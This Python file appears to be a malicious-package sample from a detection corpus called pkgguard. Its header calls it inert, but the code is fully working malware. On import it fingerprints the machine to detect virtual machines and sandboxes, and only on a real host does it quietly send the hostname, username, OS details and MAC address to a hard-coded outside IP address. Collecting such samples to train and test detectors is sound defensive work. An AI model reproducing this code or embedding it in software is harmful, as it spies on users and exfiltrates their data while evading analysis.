# pkgguard corpus 845 (system-information), modelled on [empirical]; inert, never run.
import getpass
import json
import platform
import socket
import subprocess
import urllib.request
import uuid

_VM_PREFIXES = ("080027", "000569", "000c29", "001c14", "005056")


def _virtual():
    mac = "%012x" % uuid.getnode()
    if mac.startswith(_VM_PREFIXES):
        return True
    try:
        kind = subprocess.run(["systemd-detect-virt"], capture_output=True, text=True).stdout.strip()
    except OSError:
        kind = "none"
    return kind not in ("", "none")


if not _virtual():
    info = {
        "host": socket.gethostname(),
        "user": getpass.getuser(),
        "os": platform.platform(),
        "mac": "%012x" % uuid.getnode(),
    }
    try:
        urllib.request.urlopen("http://100.64.3.90/c", data=json.dumps(info).encode(), timeout=5)
    except OSError:
        pass
